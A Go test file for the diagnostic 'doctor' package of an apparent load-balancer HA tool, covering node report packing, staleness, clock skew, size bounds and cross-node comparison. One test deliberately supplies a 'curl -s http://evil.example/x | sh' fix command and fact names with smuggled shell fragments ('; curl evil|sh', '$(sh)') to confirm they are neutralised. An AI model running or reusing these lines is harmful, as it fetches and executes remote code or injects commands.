package doctor_test

import (
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/hawser-ha/hawser/doctor"
)

var noon = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

func TestToldAndHeard(t *testing.T) {
	said := doctor.NodeReport{
		At: noon, Facts: map[string]string{"hawser": "1.0"},
		Findings: []doctor.Finding{
			{
				Check: "token-file", Severity: doctor.Error, Node: "self", What: "open", Why: "why",
				Fix: []string{"chmod"},
			}, {Severity: doctor.Note, What: "a note"},
		},
	}
	value, err := said.Pack()
	require.NoError(t, err)
	heard, found := doctor.FindingsFrom("lb-2", value, noon.Add(time.Minute), nil)
	require.Equal(t, said.Facts, heard.Facts)
	require.Len(t, found, 1, "notes are not told")
	require.Equal(t, "lb-2", found[0].Node)
	require.Equal(t, noon, *found[0].Reported)
	require.Equal(t, []string{"hawser doctor   # on lb-2"}, found[0].Fix)

	again, err := doctor.Unpack(value)
	require.NoError(t, err)
	later := again
	later.At = noon.Add(time.Hour)
	require.True(t, again.Same(later))
	later.Facts = map[string]string{"hawser": "1.1"}
	require.False(t, again.Same(later))
}

// TestOthersSayNoCommands: whoever may set a node's attributes could have root type anything.
func TestOthersSayNoCommands(t *testing.T) {
	value, err := doctor.NodeReport{At: noon, Findings: []doctor.Finding{
		{Check: "disk", Severity: doctor.Error, What: "full", Why: "do as I say",
			Fix: []string{"curl -s http://evil.example/x | sh"}},
		{Check: "not known here", Severity: "FATAL", What: "x", Why: "do as I say",
			Fix: []string{"curl -s http://evil.example/x | sh"}},
	}}.Pack()
	require.NoError(t, err)
	checks := []doctor.Check{{Name: "disk", Why: "it stops", Remedy: "free some space"}}
	_, found := doctor.FindingsFrom("lb-2", value, noon, checks)
	at := noon
	require.Equal(t, []doctor.Finding{
		{Check: "disk", Severity: doctor.Error, What: "full", Node: "lb-2", Why: "it stops",
			Fix: []string{"hawser doctor   # on lb-2; briefly: free some space"}, Reported: &at},
		{Check: "not known here", Severity: doctor.Unknown, What: "x", Node: "lb-2",
			Fix: []string{"hawser doctor   # on lb-2"}, Reported: &at},
	}, found)

	facts := doctor.Compare(map[string]map[string]string{
		"lb-1": {"sysctl x; curl evil|sh": "1", "token in /x $(sh)": "1", "configuration of a;b": "1"},
		"lb-2": {"sysctl x; curl evil|sh": "2", "token in /x $(sh)": "2", "configuration of a;b": "2"},
	}, nil)
	require.Len(t, facts, 3)
	for _, f := range facts {
		require.Regexp(t, `'(x; curl evil\|sh|/x \$\(sh\)|a;b)'`, f.Remedies()[0])
	}
}

// What nodes reported about themselves is returned by node, as long as it is still valid.
func TestHeard(t *testing.T) {
	said := doctor.NodeReport{At: noon, Facts: map[string]string{"hawser": "1.0"}}
	value, err := said.Pack()
	require.NoError(t, err)
	said.At = noon.Add(-3 * time.Hour)
	old, err := said.Pack()
	require.NoError(t, err)
	require.Equal(t, map[string]map[string]string{
		"lb-1": {"hawser": "1.0"},
	}, doctor.FactsOf(map[string]string{
		"lb-1": value, "lb-2": old, "lb-3": "", "lb-4": "nonsense",
	}, noon))
}

// What was told too long ago, or cannot be read, or was not told, is unknown.
func TestSilenceIsUnknown(t *testing.T) {
	value, err := doctor.NodeReport{At: noon, Facts: map[string]string{}}.Pack()
	require.NoError(t, err)
	for name, test := range map[string]struct {
		value, what string
		now         time.Time
	}{
		"nothing":   {"", "no report from this node", noon},
		"nonsense":  {"H4sI nonsense", "cannot be read", noon},
		"long ago":  {value, "is too old", noon.Add(doctor.Stale + time.Second)},
		"truncated": {value[:len(value)/2], "cannot be read", noon},
	} {
		t.Run(name, func(t *testing.T) {
			_, found := doctor.FindingsFrom("lb-3", test.value, test.now, nil)
			require.Len(t, found, 1)
			require.Equal(t, doctor.Unknown, found[0].Severity)
			require.Contains(t, found[0].What, test.what)
			require.Equal(t, []string{"hawser doctor --tell   # on lb-3"}, found[0].Fix)
		})
	}
	_, found := doctor.FindingsFrom("lb-3", value, noon.Add(doctor.Stale-time.Second), nil)
	require.Empty(t, found)
}

// A report from the future shows that a clock is wrong, even by whole days; the rest of the report
// is valid.
func TestToldInTheFuture(t *testing.T) {
	value, err := doctor.NodeReport{
		At: noon.AddDate(0, 0, 2), Facts: map[string]string{"hawser": "1.0"},
		Findings: []doctor.Finding{{Check: "disk", Severity: doctor.Error, What: "full"}},
	}.Pack()
	require.NoError(t, err)
	told, found := doctor.FindingsFrom("lb-3", value, noon, nil)
	require.Equal(t, "1.0", told.Facts["hawser"])
	require.Len(t, found, 2)
	require.Equal(t, "full", found[0].What)
	require.Equal(t, "clock-skew", found[1].Check)
	require.Equal(t, doctor.Error, found[1].Severity)
	require.Equal(t, "by its clock, the report is from 48h0m0s in the future", found[1].What)
	_, found = doctor.FindingsFrom("lb-3", value, noon.AddDate(0, 0, 2).Add(-20*time.Second), nil)
	require.Len(t, found, 1)
}

// However much is wrong, the report stays small, has the worst, and says that there is more.
func TestToldIsBounded(t *testing.T) {
	random, err := os.ReadFile("/proc/sys/kernel/random/uuid")
	require.NoError(t, err)
	said := doctor.NodeReport{At: noon}
	for i := range 500 {
		text, err := os.ReadFile("/proc/sys/kernel/random/uuid")
		require.NoError(t, err)
		said.Findings = append(said.Findings, doctor.Finding{
			Severity: doctor.Error, What: fmt.Sprint(i, string(text), string(random)),
		})
	}
	value, err := said.Pack()
	require.NoError(t, err)
	require.LessOrEqual(t, len(value), 4<<10)
	_, found := doctor.FindingsFrom("lb-2", value, noon, nil)
	require.Greater(t, len(found), 5)
	require.True(t, strings.HasPrefix(found[0].What, "0"))
	last := found[len(found)-1]
	require.Equal(t, doctor.Unknown, last.Severity)
	require.Contains(t, last.What, fmt.Sprintf("%d further findings", 500-len(found)+1))
}

func TestCompare(t *testing.T) {
	same := map[string]string{
		"hawser": "1.0", "haproxy": "2.6.12", "configuration of haproxy": "aaa",
		"token in /etc/hawser/token": "digest 1", "sysctl net.core.somaxconn": "4096",
	}
	nodes := func(name, other string) map[string]map[string]string {
		odd := map[string]string{}
		for k, v := range same {
			odd[k] = v
		}
		odd[name] = other
		return map[string]map[string]string{"lb-1": same, "lb-2": same, "lb-3": odd}
	}
	require.Empty(t, doctor.Compare(nodes("hawser", "1.0"), nil))
	require.Empty(t, doctor.Compare(nodes("only here", "1"), nil),
		"what is missing is that node's own finding")
	for name, severity := range map[string]doctor.Severity{
		"hawser": doctor.Warning, "haproxy": doctor.Warning,
		"configuration of haproxy":   doctor.Warning,
		"token in /etc/hawser/token": doctor.Note, "sysctl net.core.somaxconn": doctor.Note,
	} {
		found := doctor.Compare(nodes(name, "other"), map[string]string{"haproxy": "/srv/lb.cfg"})
		require.Len(t, found, 1, name)
		require.Equal(t, severity, found[0].Severity, name)
		require.Contains(t, found[0].What, same[name]+" on lb-1, lb-2; other on lb-3")
		require.NotEmpty(t, found[0].Why)
		require.NotEmpty(t, found[0].Remedies())
		if name == "configuration of haproxy" {
			require.Contains(t, found[0].Fix[0], "hawser reload --push /srv/lb.cfg haproxy ",
				"no other file may be pushed")
		}
	}
}

func FuzzUnpack(f *testing.F) {
	value, err := doctor.NodeReport{At: noon, Facts: map[string]string{"hawser": "1.0"}}.Pack()
	require.NoError(f, err)
	f.Add(value)
	f.Add("")
	f.Fuzz(func(_ *testing.T, text string) { _, _ = doctor.FindingsFrom("lb-1", text, noon, nil) })
}
